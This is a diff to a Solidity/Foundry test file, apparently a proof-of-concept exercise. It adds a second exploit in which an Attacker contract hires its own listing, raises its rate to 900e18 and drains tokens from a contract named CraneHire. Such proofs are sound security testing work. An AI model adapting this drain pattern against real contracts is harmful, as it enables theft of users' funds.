@@ -43,7 +43,8 @@ contract Proof {
         vm.warp(START + 10 days);
         yard.end(0);
         vm.stopPrank();
-        mallory = new Attacker(yard);
+        mallory = new Attacker(yard, token);
+        token.transfer(address(mallory), 1);
     }
 
     function test_Regular() public {
@@ -123,6 +124,17 @@ contract Proof {
         require(token.balanceOf(address(mallory)) >= 900e18, "nothing gained");
     }
 
+    function exploit2() public {
+        mallory.hire();
+        vm.warp(block.timestamp + 1 days);
+        mallory.end();
+    }
+
+    function test_Exploit2() public {
+        exploit2();
+        require(token.balanceOf(address(mallory)) >= 900e18, "nothing gained");
+    }
+
     function target() public view returns (address) {
         return address(yard);
     }
@@ -139,8 +151,19 @@ contract Proof {
 contract Attacker {
     CraneHire private yard;
 
-    constructor(CraneHire y) {
+    constructor(CraneHire y, Coin c) {
         yard = y;
+        c.approve(address(y), 1);
+    }
+
+    function hire() external {
+        yard.hire(yard.add(1), 1, 1);
+    }
+
+    function end() external {
+        yard.setRate(1, 900e18);
+        yard.end(1);
+        yard.take(1, address(this));
     }
 
     function run() external {
